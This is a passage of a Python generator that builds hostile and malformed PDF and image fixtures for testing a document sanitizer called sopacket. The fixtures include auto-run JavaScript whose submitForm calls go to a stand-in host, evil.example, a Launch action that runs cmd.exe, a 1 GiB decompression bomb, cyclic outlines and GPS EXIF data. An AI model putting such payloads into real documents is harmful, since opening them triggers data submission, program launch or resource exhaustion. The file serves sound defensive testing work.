"""Generate a corpus of hostile and broken record and packet files for sopacket tests.

    python -m tests.corpus.make_hostile OUT_DIR     # writes the files, self-checks, prints JSON

``generate(dest)`` writes every file into ``dest`` and returns a catalog, file name -> entry:

* ``expect``: ``"clean"`` (builds once active content is removed), ``"error"`` (refused with a
  message, no output) or ``"error_or_clean"`` (either is acceptable; ``what`` says why);
* ``markers``: ASCII strings stored uncompressed in the input that must not appear anywhere in a
  packet built from it (after decryption and decompression), nor in what the tool prints;
* ``what``: one line saying what the file is;
* ``kind``: ``"record"`` (list it under ``records:``) or ``"packet"`` (a packet YAML file);

and, where they apply: ``visible`` (text on an ordinary page that must survive), ``pages`` (page
count of the record), ``pages_with_text`` (0-based pages that still carry ``visible``, where
not all do), ``internal_links`` ([from_page, to_page] pairs, 0-based, that must still work),
``outline_targets`` ([title, page] pairs of harmless outline items), ``field_value`` (text shown
by a form field's appearance), ``repaired`` (whether qpdf has to reconstruct the file),
``password`` (the user password), ``display_size`` ([width, height] once EXIF orientation is
applied) and ``deterministic`` (False only where the bytes differ between runs).

Only pikepdf, reportlab, Pillow and the standard library are used; sopacket is not imported.
Everything is deterministic except the random salts and keys of the AES-256 file, fast (about
0.3 s) and small (about 1.6 MB in all, almost all of it the two decompression bombs).
"""

from __future__ import annotations

import io
import itertools
import json
import random
import struct
import sys
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any, NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageDraw
from PIL.TiffImagePlugin import IFDRational
from reportlab.lib.pagesizes import letter
from reportlab.pdfgen import canvas

Entry = dict[str, Any]

BOMB_BYTES = 1 << 30
"""Decompressed size of the Flate bomb (1 GiB of zeros, about 1 MB compressed)."""

HUGE_SIDE = 60_000
"""Width and height of huge-pixels.png (3.6 gigapixels, 1-bit grey, about 0.44 MB)."""

PASSWORD = "record-pass-123"
OWNER_PASSWORD = "owner-pass-456"

MINIMAL_PACKET = """\
sopacket: 1
patient:
  name: Ana Test
  date_of_birth: 1970-01-31
request:
  reason: Second opinion on a test
"""


class Item(NamedTuple):
    name: str
    data: bytes
    entry: Entry


def _entry(expect: str, what: str, markers: Iterable[str] = (), **extra: Any) -> Entry:
    return {"expect": expect, "markers": list(markers), "what": what, "kind": "record", **extra}


def _visible(stem: str) -> str:
    return f"VISIBLE-TEXT-{stem}"


# --------------------------------------------------------------------------------------------
# Building blocks


def _text_pdf(
    stem: str, pages: int = 1, labels: dict[int, list[tuple[float, float, str]]] | None = None
) -> bytes:
    """A plain letter-size PDF, uncompressed, each page saying ``VISIBLE-TEXT-<stem>``."""
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=letter, invariant=1, pageCompression=0)
    for n in range(pages):
        c.setFont("Helvetica", 18)
        c.drawString(72, 720, _visible(stem))
        c.setFont("Helvetica", 12)
        c.drawString(72, 696, f"Page {n + 1} of {pages}")
        for x, y, text in (labels or {}).get(n, []):
            c.drawString(x, y, text)
        c.showPage()
    c.save()
    return buf.getvalue()


def _open(stem: str, pages: int = 1, **kw: Any) -> Pdf:
    return pikepdf.open(io.BytesIO(_text_pdf(stem, pages, **kw)))


def _save(pdf: Pdf, **kw: Any) -> bytes:
    """Save keeping our streams uncompressed and every object outside object streams, so the
    markers can be found with grep in the input."""
    buf = io.BytesIO()
    options: dict[str, Any] = {
        "compress_streams": False,
        "stream_decode_level": pikepdf.StreamDecodeLevel.none,
        "object_stream_mode": pikepdf.ObjectStreamMode.disable,
        "fix_metadata_version": False,
        "deterministic_id": True,
    }
    options.update(kw)
    pdf.save(buf, **options)
    return buf.getvalue()


def _js(pdf: Pdf, code: str, *, stream: bool = False, then: Any = None) -> Dictionary:
    """A JavaScript action, its code as a text string or (``stream=True``) an uncompressed
    stream; ``then`` becomes its /Next."""
    js: Any = pdf.make_stream(code.encode("ascii")) if stream else String(code)
    action = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=js)
    if then is not None:
        action.Next = then
    return action


def _alert(marker: str) -> str:
    return f"app.alert('{marker}'); this.submitForm('https://evil.example/{marker}');"


def _annot(pdf: Pdf, page: pikepdf.Page, subtype: Name, rect: list[float], **fields: Any) -> Any:
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array(rect), F=4, P=page.obj, **fields)
    )
    if Name.Annots not in page.obj:
        page.obj.Annots = Array()
    page.obj.Annots.append(annot)
    return annot


def _filespec(pdf: Pdf, filename: str, content: bytes, **extra: Any) -> Any:
    """An indirect file specification embedding ``content`` uncompressed."""
    ef = pdf.make_stream(content, Type=Name.EmbeddedFile, Params=Dictionary(Size=len(content)))
    spec = Dictionary(
        Type=Name.Filespec, F=String(filename), UF=String(filename), EF=Dictionary(F=ef), **extra
    )
    return pdf.make_indirect(spec)


def _xmp(marker: str) -> bytes:
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">\n'
        ' <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
        '  <rdf:Description rdf:about=""\n'
        '    xmlns:dc="http://purl.org/dc/elements/1.1/"\n'
        '    xmlns:xmp="http://ns.adobe.com/xap/1.0/">\n'
        f'   <dc:description><rdf:Alt><rdf:li xml:lang="x-default">{marker}</rdf:li>'
        "</rdf:Alt></dc:description>\n"
        f"   <xmp:CreatorTool>{marker}</xmp:CreatorTool>\n"
        "  </rdf:Description>\n"
        " </rdf:RDF>\n"
        "</x:xmpmeta>\n"
        '<?xpacket end="w"?>'
    ).encode()


def _zlib_zeros(size: int, chunk: int = 1 << 20) -> bytes:
    """zlib data inflating to ``size`` zero bytes, made in O(output) time: after a full flush
    deflate forgets its history, so every full chunk of zeros compresses to the same bytes."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(chunk)
    block = co.compress(zeros) + co.flush(zlib.Z_FULL_FLUSH)
    assert block == co.compress(zeros) + co.flush(zlib.Z_FULL_FLUSH)
    count, rest = divmod(size, chunk)
    tail = co.compress(bytes(rest)) + co.flush(zlib.Z_FINISH)
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b counts the bytes
    return b"\x78\xda" + block * count + tail + struct.pack(">I", adler)


# Hand-written PDF, for what pikepdf would tidy away (incremental updates, broken files).

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def _text_content(text: str) -> bytes:
    return b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % text.encode("ascii")


def _page(contents: bytes) -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /Font << /F1 5 0 R >> >> /Contents %s >>" % contents
    )


def _revision(
    prefix: bytes, objects: dict[int, bytes | None], trailer: bytes, prev: int | None = None
) -> bytes:
    """Append ``objects`` (number -> body, or None to free it), an xref section and a trailer
    to ``prefix`` (a header for a new file, the previous revision for an incremental update)."""
    out = bytearray(prefix)
    entries: dict[int, bytes] = {}
    for num, body in sorted(objects.items()):
        if body is not None:
            entries[num] = b"%010d 00000 n\r\n" % len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    free = [0, *sorted(n for n, body in objects.items() if body is None)]
    for this, after in zip(free, [*free[1:], 0], strict=True):
        entries[this] = b"%010d %05d f\r\n" % (after, 65535 if this == 0 else 1)
    xref_at = len(out)
    out += b"xref\n"
    runs: list[list[int]] = []
    for num in sorted(entries):
        if runs and runs[-1][-1] == num - 1:
            runs[-1].append(num)
        else:
            runs.append([num])
    for run in runs:
        out += b"%d %d\n" % (run[0], len(run)) + b"".join(entries[n] for n in run)
    if prev is not None:
        trailer += b" /Prev %d" % prev
    out += b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, xref_at)
    return bytes(out)


def _startxref(data: bytes) -> int:
    return int(data[data.rindex(b"startxref") + 9 :].split()[0])


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _picture(size: tuple[int, int] = (400, 300)) -> Image.Image:
    """An RGB picture whose top is obvious: a red band and an arrow pointing up."""
    w, h = size
    image = Image.new("RGB", size, (235, 235, 225))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, w, h // 6), fill=(200, 30, 30))
    draw.polygon([(w // 2, h // 6 + 10), (w // 2 - 40, h // 2), (w // 2 + 40, h // 2)], fill=0)
    draw.rectangle((w // 2 - 12, h // 2, w // 2 + 12, h - 20), fill=(0, 0, 0))
    for x in range(0, w, 20):
        draw.line((x, h - 10, x + 10, h), fill=(30, 90, 200), width=3)
    return image


# --------------------------------------------------------------------------------------------
# JavaScript


def _js_names() -> Iterable[Item]:
    pdf = _open("js-names")
    leaf_a = pdf.make_indirect(
        Dictionary(
            Names=Array([String("init"), _js(pdf, _alert("MARKER-JS-NAMES-A"))]),
            Limits=Array([String("init"), String("init")]),
        )
    )
    leaf_b = pdf.make_indirect(
        Dictionary(
            Names=Array([String("zz"), _js(pdf, _alert("MARKER-JS-NAMES-B"), stream=True)]),
            Limits=Array([String("zz"), String("zz")]),
        )
    )
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([leaf_a, leaf_b])))
    yield Item(
        "js-names.pdf",
        _save(pdf),
        _entry(
            "clean",
            "document JavaScript in the /Names /JavaScript name tree (two /Kids leaves: one /JS "
            "string, one /JS stream)",
            ["MARKER-JS-NAMES-A", "MARKER-JS-NAMES-B"],
            visible=_visible("js-names"),
            pages=1,
        ),
    )


def _js_openaction() -> Iterable[Item]:
    pdf = _open("js-openaction")
    then = Array([_js(pdf, _alert("MARKER-JS-NEXT-AFTER-OPEN"), stream=True)])
    pdf.Root.OpenAction = _js(pdf, _alert("MARKER-JS-OPENACTION"), then=then)
    yield Item(
        "js-openaction.pdf",
        _save(pdf),
        _entry(
            "clean",
            "/OpenAction JavaScript whose /Next array holds a second JavaScript action (stream)",
            ["MARKER-JS-OPENACTION", "MARKER-JS-NEXT-AFTER-OPEN"],
            visible=_visible("js-openaction"),
            pages=1,
        ),
    )


def _js_catalog_aa() -> Iterable[Item]:
    pdf = _open("js-catalog-aa")
    triggers = ["WC", "WS", "DS", "WP", "DP"]
    pdf.Root.AA = Dictionary(
        {f"/{t}": _js(pdf, _alert(f"MARKER-JS-CATALOG-{t}"), stream=(t == "WS")) for t in triggers}
    )
    yield Item(
        "js-catalog-aa.pdf",
        _save(pdf),
        _entry(
            "clean",
            "catalog /AA with JavaScript on /WC /WS (stream) /DS /WP /DP",
            [f"MARKER-JS-CATALOG-{t}" for t in triggers],
            visible=_visible("js-catalog-aa"),
            pages=1,
        ),
    )


def _js_page_aa() -> Iterable[Item]:
    pdf = _open("js-page-aa")
    pdf.pages[0].obj.AA = Dictionary(
        O=_js(pdf, _alert("MARKER-JS-PAGE-OPEN")),
        C=_js(pdf, _alert("MARKER-JS-PAGE-CLOSE"), stream=True),
    )
    yield Item(
        "js-page-aa.pdf",
        _save(pdf),
        _entry(
            "clean",
            "page /AA with JavaScript on /O (string) and /C (stream)",
            ["MARKER-JS-PAGE-OPEN", "MARKER-JS-PAGE-CLOSE"],
            visible=_visible("js-page-aa"),
            pages=1,
        ),
    )


def _js_annot() -> Iterable[Item]:
    pdf = _open("js-annot", labels={0: [(72, 600, "Click here"), (72, 500, "Hover here")]})
    page = pdf.pages[0]
    _annot(
        pdf,
        page,
        Name.Link,
        [70, 590, 300, 615],
        Border=Array([0, 0, 1]),
        A=_js(pdf, _alert("MARKER-JS-LINK")),
    )
    _annot(
        pdf,
        page,
        Name.Square,
        [70, 490, 300, 515],
        C=Array([1, 0, 0]),
        Contents=String("A square"),
        AA=Dictionary(
            E=_js(pdf, _alert("MARKER-JS-ANNOT-ENTER")),
            X=_js(pdf, _alert("MARKER-JS-ANNOT-EXIT"), stream=True),
            PO=_js(pdf, _alert("MARKER-JS-ANNOT-PAGEOPEN")),
        ),
    )
    yield Item(
        "js-annot.pdf",
        _save(pdf),
        _entry(
            "clean",
            "a Link annotation whose /A is JavaScript and a Square annotation with /AA "
            "JavaScript on /E, /X (stream) and /PO",
            [
                "MARKER-JS-LINK",
                "MARKER-JS-ANNOT-ENTER",
                "MARKER-JS-ANNOT-EXIT",
                "MARKER-JS-ANNOT-PAGEOPEN",
            ],
            visible=_visible("js-annot"),
            pages=1,
        ),
    )


def _js_field() -> Iterable[Item]:
    pdf = _open("js-field", labels={0: [(72, 640, "Name:")]})
    page = pdf.pages[0]
    helv = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Name.WinAnsiEncoding,
        )
    )
    appearance = pdf.make_stream(
        b"/Tx BMC q BT /Helv 12 Tf 0 g 2 7 Td (FIELD-VALUE-VISIBLE) Tj ET Q EMC",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 220, 24]),
        Resources=Dictionary(Font=Dictionary(Helv=helv)),
    )
    field = _annot(
        pdf,
        page,
        Name.Widget,
        [120, 632, 340, 656],
        FT=Name.Tx,
        T=String("patient_name"),
        V=String("FIELD-VALUE-VISIBLE"),
        DA=String("/Helv 12 Tf 0 g"),
        MK=Dictionary(BC=Array([0, 0, 0])),
        AP=Dictionary(N=appearance),
        AA=Dictionary(
            K=_js(pdf, _alert("MARKER-JS-FIELD-KEYSTROKE")),
            F=_js(pdf, _alert("MARKER-JS-FIELD-FORMAT"), stream=True),
            V=_js(pdf, _alert("MARKER-JS-FIELD-VALIDATE")),
            C=_js(pdf, _alert("MARKER-JS-FIELD-CALCULATE")),
        ),
    )
    xfa = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f">'
        b'<field name="patient_name"><event activity="initialize"><script contentType='
        b'"application/x-javascript">app.alert("MARKER-XFA-SCRIPT");</script></event>'
        b"</field></subform></template></xdp:xdp>"
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        CO=Array([field]),
        DA=String("/Helv 12 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=helv)),
        XFA=xfa,
    )
    yield Item(
        "js-field.pdf",
        _save(pdf),
        _entry(
            "clean",
            "AcroForm text field (widget appearance shows FIELD-VALUE-VISIBLE) with /AA /K /F "
            "/V /C JavaScript, /CO calculation order and an /XFA stream with a script",
            [
                "MARKER-JS-FIELD-KEYSTROKE",
                "MARKER-JS-FIELD-FORMAT",
                "MARKER-JS-FIELD-VALIDATE",
                "MARKER-JS-FIELD-CALCULATE",
                "MARKER-XFA-SCRIPT",
            ],
            visible=_visible("js-field"),
            pages=1,
            field_value="FIELD-VALUE-VISIBLE",
        ),
    )


def _js_outline() -> Iterable[Item]:
    pdf = _open("js-outline", pages=2)
    p1, p2 = (p.obj for p in pdf.pages)
    root = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    launch = Dictionary(S=Name.Launch, F=String("MARKER-LAUNCH-OUTLINE.exe"))
    items = [
        Dictionary(
            Title=String("Run script"),
            A=_js(
                pdf,
                _alert("MARKER-JS-OUTLINE-FIRST"),
                then=_js(pdf, _alert("MARKER-JS-OUTLINE-SECOND"), stream=True, then=launch),
            ),
        ),
        Dictionary(Title=String("Page two"), Dest=Array([p2, Name.Fit])),
        Dictionary(
            Title=String("Back to page one"),
            A=Dictionary(
                S=Name.GoTo,
                D=Array([p1, Name.Fit]),
                Next=_js(pdf, _alert("MARKER-JS-OUTLINE-GOTO-NEXT")),
            ),
        ),
    ]
    refs = [pdf.make_indirect(item) for item in items]
    for i, ref in enumerate(refs):
        ref.Parent = root
        if i:
            ref.Prev = refs[i - 1]
        if i + 1 < len(refs):
            ref.Next = refs[i + 1]
    root.First, root.Last, root.Count = refs[0], refs[-1], len(refs)
    pdf.Root.Outlines = root
    yield Item(
        "js-outline.pdf",
        _save(pdf),
        _entry(
            "clean",
            "outline: item 1 runs JavaScript -> /Next JavaScript -> /Next Launch; item 2 is a "
            "plain /Dest to page 2; item 3 is a GoTo page 1 whose /Next is JavaScript",
            [
                "MARKER-JS-OUTLINE-FIRST",
                "MARKER-JS-OUTLINE-SECOND",
                "MARKER-LAUNCH-OUTLINE",
                "MARKER-JS-OUTLINE-GOTO-NEXT",
            ],
            visible=_visible("js-outline"),
            pages=2,
            outline_targets=[["Page two", 1], ["Back to page one", 0]],
        ),
    )


# --------------------------------------------------------------------------------------------
# Other actions, attachments, media, metadata


def _actions() -> Iterable[Item]:
    kinds = [
        "Launch",
        "GoToR",
        "SubmitForm",
        "ImportData",
        "URI",
        "GoToE",
        "Hide",
        "Named",
        "ResetForm",
        "Go to page 2",
        "Go to page 3",
    ]
    rows = {name: 640 - 36 * i for i, name in enumerate(kinds)}
    pdf = _open("actions", pages=3, labels={0: [(90, y, name) for name, y in rows.items()]})
    page = pdf.pages[0]
    p2, p3 = pdf.pages[1].obj, pdf.pages[2].obj
    actions = {
        "Launch": Dictionary(
            S=Name.Launch,
            F=String("MARKER-LAUNCH-F.exe"),
            Win=Dictionary(
                F=String("cmd.exe"), P=String("/c echo MARKER-LAUNCH-WIN"), O=String("open")
            ),
            NewWindow=True,
        ),
        "GoToR": Dictionary(
            S=Name.GoToR, F=String("MARKER-GOTOR-FILE.pdf"), D=Array([0, Name.Fit])
        ),
        "SubmitForm": Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=String("https://evil.example/MARKER-SUBMIT-URL")),
            Flags=4,
        ),
        "ImportData": Dictionary(S=Name.ImportData, F=String("MARKER-IMPORTDATA.fdf")),
        "URI": Dictionary(S=Name.URI, URI=String("https://evil.example/MARKER-URI?p=1")),
        "GoToE": Dictionary(
            S=Name.GoToE,
            D=Array([0, Name.Fit]),
            T=Dictionary(R=Name.C, N=String("MARKER-GOTOE-TARGET")),
        ),
        "Hide": Dictionary(S=Name.Hide, T=String("MARKER-HIDE-TARGET"), H=True),
        "Named": Dictionary(S=Name.Named, N=Name.Print),
        "ResetForm": Dictionary(
            S=Name.ResetForm, Fields=Array([String("MARKER-RESETFORM-FIELD")]), Flags=0
        ),
    }
    for name, action in actions.items():
        y = rows[name]
        _annot(pdf, page, Name.Link, [86, y - 6, 300, y + 16], Border=Array([0, 0, 1]), A=action)
    y = rows["Go to page 2"]
    _annot(
        pdf,
        page,
        Name.Link,
        [86, y - 6, 300, y + 16],
        Border=Array([0, 0, 1]),
        Dest=Array([p2, Name.Fit]),
    )
    y = rows["Go to page 3"]
    _annot(
        pdf,
        page,
        Name.Link,
        [86, y - 6, 300, y + 16],
        Border=Array([0, 0, 1]),
        A=Dictionary(S=Name.GoTo, D=String("chapter3")),
    )
    pdf.Root.Names = Dictionary(
        Dests=Dictionary(Names=Array([String("chapter3"), Array([p3, Name.Fit])]))
    )
    yield Item(
        "actions.pdf",
        _save(pdf),
        _entry(
            "clean",
            "page 1 Link annotations with Launch (/F and /Win), GoToR, SubmitForm, ImportData, "
            "URI, GoToE, Hide, Named /Print (no marker), ResetForm, plus two internal links: "
            "/Dest [page2 /Fit] and /A GoTo the named destination (chapter3) -> page 3",
            [
                "MARKER-LAUNCH-F",
                "MARKER-LAUNCH-WIN",
                "MARKER-GOTOR-FILE",
                "MARKER-SUBMIT-URL",
                "MARKER-IMPORTDATA",
                "MARKER-URI",
                "MARKER-GOTOE-TARGET",
                "MARKER-HIDE-TARGET",
                "MARKER-RESETFORM-FIELD",
            ],
            visible=_visible("actions"),
            pages=3,
            internal_links=[[0, 1], [0, 2]],
        ),
    )


def _embedded() -> Iterable[Item]:
    pdf = _open("embedded", labels={0: [(72, 600, "Attachment:")]})
    page = pdf.pages[0]
    names_spec = _filespec(
        pdf, "MARKER-EMBEDDED-FILENAME.txt", b"MARKER-EMBEDDED-NAMES secret lab export\n"
    )
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("MARKER-EMBEDDED-FILENAME.txt"), names_spec]))
    )
    _annot(
        pdf,
        page,
        Name.FileAttachment,
        [160, 595, 180, 615],
        Name=Name.PushPin,
        Contents=String("Attached file"),
        FS=_filespec(pdf, "attachment.txt", b"MARKER-EMBEDDED-ANNOT attached note\n"),
    )
    page.obj.AF = Array(
        [_filespec(pdf, "page-data.csv", b"MARKER-AF-PAGE,1,2\n", AFRelationship=Name.Supplement)]
    )
    pdf.Root.AF = Array(
        [_filespec(pdf, "source.xml", b"<x>MARKER-AF-CATALOG</x>\n", AFRelationship=Name.Data)]
    )
    yield Item(
        "embedded.pdf",
        _save(pdf),
        _entry(
            "clean",
            "/Names /EmbeddedFiles file (marker in name and content), a FileAttachment "
            "annotation, and page and catalog /AF associated files, all uncompressed",
            [
                "MARKER-EMBEDDED-FILENAME",
                "MARKER-EMBEDDED-NAMES",
                "MARKER-EMBEDDED-ANNOT",
                "MARKER-AF-PAGE",
                "MARKER-AF-CATALOG",
            ],
            visible=_visible("embedded"),
            pages=1,
        ),
    )


def _richmedia() -> Iterable[Item]:
    pdf = _open("richmedia")
    page = pdf.pages[0]
    asset = _filespec(pdf, "player.swf", b"FWS\x0aMARKER-RICHMEDIA-ASSET flash payload")
    _annot(
        pdf,
        page,
        Name.RichMedia,
        [72, 400, 300, 600],
        RichMediaContent=Dictionary(
            Assets=Dictionary(Names=Array([String("player.swf"), asset])),
            Configurations=Array(
                [
                    Dictionary(
                        Type=Name.RichMediaConfiguration,
                        Subtype=Name.Flash,
                        Instances=Array(
                            [
                                Dictionary(
                                    Type=Name.RichMediaInstance,
                                    Subtype=Name.Flash,
                                    Asset=asset,
                                )
                            ]
                        ),
                    )
                ]
            ),
        ),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )
    clip = _filespec(pdf, "clip.mp4", b"\x00\x00\x00\x18ftypmp42 MARKER-RENDITION-MEDIA")
    screen = _annot(pdf, page, Name.Screen, [320, 400, 540, 600], T=String("Screen"))
    screen.A = Dictionary(
        S=Name.Rendition,
        OP=0,
        AN=screen,
        R=Dictionary(
            Type=Name.Rendition,
            S=Name.MR,
            C=Dictionary(Type=Name.MediaClip, S=Name.MCD, CT=String("video/mp4"), D=clip),
        ),
        JS=String(_alert("MARKER-JS-RENDITION")),
    )
    _annot(
        pdf,
        page,
        Name.Movie,
        [72, 200, 300, 380],
        Movie=Dictionary(F=String("MARKER-MOVIE-FILE.mov"), Aspect=Array([320, 240])),
        A=True,
    )
    _annot(
        pdf,
        page,
        Name.Sound,
        [320, 340, 340, 360],
        Name=Name.Speaker,
        Sound=pdf.make_stream(
            b"MARKER-SOUND-DATA" + bytes(64), Type=Name.Sound, R=8000, C=1, B=8, E=Name.Raw
        ),
    )
    yield Item(
        "richmedia.pdf",
        _save(pdf),
        _entry(
            "clean",
            "RichMedia annotation with an embedded Flash asset, a Screen annotation with a "
            "Rendition action (media clip file plus /JS), a Movie and a Sound annotation",
            [
                "MARKER-RICHMEDIA-ASSET",
                "MARKER-RENDITION-MEDIA",
                "MARKER-JS-RENDITION",
                "MARKER-MOVIE-FILE",
                "MARKER-SOUND-DATA",
            ],
            visible=_visible("richmedia"),
            pages=1,
        ),
    )


def _metadata() -> Iterable[Item]:
    pdf = _open("metadata")
    page = pdf.pages[0]
    info = {
        "Title": "MARKER-INFO-TITLE",
        "Author": "MARKER-INFO-AUTHOR",
        "Subject": "MARKER-INFO-SUBJECT",
        "Keywords": "MARKER-INFO-KEYWORDS",
        "Creator": "MARKER-INFO-CREATOR",
        "Producer": "MARKER-INFO-PRODUCER",
        "PatientID": "MARKER-INFO-CUSTOM",
    }
    pdf.trailer.Info = pdf.make_indirect(
        Dictionary({f"/{key}": String(value) for key, value in info.items()})
    )
    pdf.Root.Metadata = pdf.make_stream(
        _xmp("MARKER-XMP-CATALOG"), Type=Name.Metadata, Subtype=Name.XML
    )
    page.obj.Metadata = pdf.make_stream(
        _xmp("MARKER-XMP-PAGE"), Type=Name.Metadata, Subtype=Name.XML
    )
    image = pdf.make_stream(
        bytes((x * 16 + y) % 256 for y in range(16) for x in range(16)),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=16,
        Height=16,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        Metadata=pdf.make_stream(_xmp("MARKER-XMP-IMAGE"), Type=Name.Metadata, Subtype=Name.XML),
    )
    page.obj.Resources.XObject = Dictionary(ImMeta=image)
    page.contents_add(pdf.make_stream(b"q 144 0 0 144 72 480 cm /ImMeta Do Q"), prepend=False)
    yield Item(
        "metadata.pdf",
        _save(pdf),
        _entry(
            "clean",
            "/Info with Title Author Subject Keywords Creator Producer and a custom key, XMP "
            "/Metadata on the catalog, the page and a drawn image XObject (all uncompressed)",
            [*info.values(), "MARKER-XMP-CATALOG", "MARKER-XMP-PAGE", "MARKER-XMP-IMAGE"],
            visible=_visible("metadata"),
            pages=1,
        ),
    )


# --------------------------------------------------------------------------------------------
# Structure: incremental updates, damaged and looping files


def _incremental() -> Iterable[Item]:
    old_js = b"(app.alert\\('MARKER-OLD-OPENACTION'\\);)"
    first = _revision(
        PDF_HEADER,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: _page(b"4 0 R"),
            4: _stream(_text_content("MARKER-OLD-REVISION")),
            5: HELVETICA,
            7: b"<< /Type /Action /S /JavaScript /JS %s >>" % old_js,
        },
        b"/Size 8 /Root 1 0 R",
    )
    data = _revision(
        first,
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            3: _page(b"6 0 R"),
            4: None,
            6: _stream(_text_content(_visible("incremental"))),
            7: None,
        },
        b"/Size 8 /Root 1 0 R",
        prev=_startxref(first),
    )
    yield Item(
        "incremental.pdf",
        data,
        _entry(
            "clean",
            "two revisions: the first page said MARKER-OLD-REVISION and had a JavaScript "
            "/OpenAction; an appended update replaces the catalog and page content and frees "
            "both objects, whose bytes stay in the file (pdftotext shows only the new text)",
            ["MARKER-OLD-REVISION", "MARKER-OLD-OPENACTION"],
            visible=_visible("incremental"),
            pages=1,
        ),
    )


def _broken_xref() -> Iterable[Item]:
    data = _text_pdf("broken-xref", pages=2)
    xref = data.rindex(b"\nxref\n")
    head, table = data[:xref], data[xref:]
    lines = table.split(b"\n")
    for i, line in enumerate(lines):
        if line.endswith(b" 00000 n "):
            lines[i] = b"%010d 00000 n " % (int(line[:10]) + 37)
    yield Item(
        "broken-xref.pdf",
        head + b"\n".join(lines),
        _entry(
            "clean",
            "valid 2-page PDF whose xref entries all point 37 bytes past their objects "
            "(startxref is right); qpdf reconstructs the xref with a warning",
            visible=_visible("broken-xref"),
            pages=2,
            repaired=True,
        ),
    )


def _cyclic_outline() -> Iterable[Item]:
    pdf = _open("cyclic-outline", pages=2)
    p1, p2 = (p.obj for p in pdf.pages)
    root = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    a = pdf.make_indirect(Dictionary(Title=String("Alpha"), Dest=Array([p1, Name.Fit])))
    b = pdf.make_indirect(Dictionary(Title=String("Beta"), Dest=Array([p2, Name.Fit])))
    c = pdf.make_indirect(Dictionary(Title=String("Child"), Dest=Array([p1, Name.Fit])))
    root.First, root.Last, root.Count = a, b, 2
    a.Parent, a.Next, a.Prev = root, b, b
    b.Parent, b.Next, b.Prev = root, a, a  # A -> B -> A -> ...
    a.First, a.Last, a.Count = c, c, 1
    c.Parent, c.First, c.Last, c.Count = a, a, a, 1  # the child's child is its parent
    pdf.Root.Outlines = root
    yield Item(
        "cyclic-outline.pdf",
        _save(pdf),
        _entry(
            "clean",
            "outline whose /Next chain loops (Alpha -> Beta -> Alpha) and whose child Child "
            "has /First and /Last pointing back at its parent Alpha",
            visible=_visible("cyclic-outline"),
            pages=2,
        ),
    )


# --------------------------------------------------------------------------------------------
# Images


def _photo_gps() -> Iterable[Item]:
    exif = Image.Exif()
    exif[0x010F] = "MARKER-EXIF-MAKE"  # Make
    exif[0x0110] = "MARKER-EXIF-MODEL"  # Model
    exif[0x010E] = "MARKER-EXIF-DESCRIPTION"  # ImageDescription
    exif[0x0131] = "MARKER-EXIF-SOFTWARE"  # Software
    exif[0x0112] = 6  # Orientation: rotate 90 degrees clockwise to display
    details = exif.get_ifd(0x8769)  # Exif IFD
    details[0x9003] = "2026:01:02 03:04:05"  # DateTimeOriginal
    details[0xA431] = "MARKER-EXIF-SERIAL"  # BodySerialNumber
    gps = exif.get_ifd(0x8825)  # GPS IFD
    gps[0x0000] = b"\x02\x03\x00\x00"  # GPSVersionID
    gps[0x0001] = "N"
    gps[0x0002] = (IFDRational(48, 1), IFDRational(51, 1), IFDRational(2988, 100))
    gps[0x0003] = "E"
    gps[0x0004] = (IFDRational(2, 1), IFDRational(17, 1), IFDRational(4020, 100))
    gps[0x0012] = "MARKER-GPS-DATUM"  # GPSMapDatum
    buf = io.BytesIO()
    _picture().save(
        buf,
        "JPEG",
        quality=85,
        exif=exif,
        xmp=_xmp("MARKER-XMP-JPEG"),
        comment="MARKER-JPEG-COMMENT",
    )
    yield Item(
        "photo-gps.jpg",
        buf.getvalue(),
        _entry(
            "clean",
            "400x300 JPEG, EXIF Orientation 6 (displays as 300x400, arrow up), GPS IFD "
            "48.858N 2.295E with MapDatum marker, Make/Model/ImageDescription/Software/"
            "BodySerialNumber markers, an XMP APP1 segment and a COM comment",
            [
